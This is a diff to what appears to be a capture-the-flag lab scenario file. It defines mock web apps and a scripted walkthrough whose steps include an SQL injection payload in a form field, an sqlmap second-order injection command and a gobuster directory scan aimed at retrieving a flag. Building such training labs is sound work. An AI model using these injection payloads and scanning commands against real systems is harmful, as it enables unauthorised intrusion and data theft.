@@ -29,7 +29,7 @@ export const cookie: Scenario = {
               routes: [
                 {
                   path: '/',
-                  page: '<h1>Portal</h1>\n<p>POST user and password to <a href="/login">/login</a>. Visitors: guest / guest.</p>\n',
+                  page: '<h1>Portal</h1>\n<form method="post" action="/login">\n<label>User <input name="user"></label>\n<label>Password <input name="password" type="password"></label>\n<button>Sign in</button>\n</form>\n<p>Visitors: guest / guest.</p>\n',
                 },
                 {
                   path: '/login',
@@ -98,7 +98,7 @@ export const dessert: Scenario = {
               routes: [
                 {
                   path: '/',
-                  page: '<h1>Menu</h1>\n<p>POST your user name to <a href="/join">/join</a>, then look at <a href="/favourites">/favourites</a>.</p>\n',
+                  page: '<h1>Menu</h1>\n<form method="post" action="/join">\n<label>Your name <input name="user"></label>\n<button>Join</button>\n</form>\n<p>Then look at <a href="/favourites">your favourites</a>.</p>\n',
                 },
                 {
                   path: '/join',
@@ -129,7 +129,9 @@ export const dessert: Scenario = {
     },
   },
   walkthrough: [
-    { type: 'curl -s http://menu/', wants: /favourites/ },
+    { type: 'curl -s http://menu/', wants: /action="\/join">[\s\S]*name="user"[\s\S]*favourites/ },
+    // the field has a name, and who takes another is told so
+    { type: 'curl -s -i -d name=maria http://menu/join', wants: /400 Bad Request[\s\S]*field user is missing/ },
     {
       type: `curl -s -i --data-urlencode "user=maria'" http://menu/join`,
       wants: /session=(?<broken>[\w+/=]+\.[0-9a-f]{64})/,
@@ -145,6 +147,12 @@ export const dessert: Scenario = {
       wants: /session=(?<last>[\w+/=]+\.[0-9a-f]{64})/,
     },
     { type: 'curl -s -b "session={last}" http://menu/favourites', wants: /(?<flag>flag\{[^}]+\})/ },
+    // a tool finds the same hole, where it is told which page reads what was stored
+    {
+      type: 'sqlmap -u http://menu/join --data=user=x --second-url=http://menu/favourites --batch --tables',
+      wants: /Parameter: user \(POST\)[\s\S]*2 columns[\s\S]*\| dessert +\|/,
+    },
+    { type: 'gobuster dir -q -u http://menu -w /usr/share/wordlists/dirs.txt', wants: /\/favourites +\(Status: 401\)/ },
   ],
   refused: ['curl -s http://menu/favourites', 'curl -s http://menu/dessert'],
 }
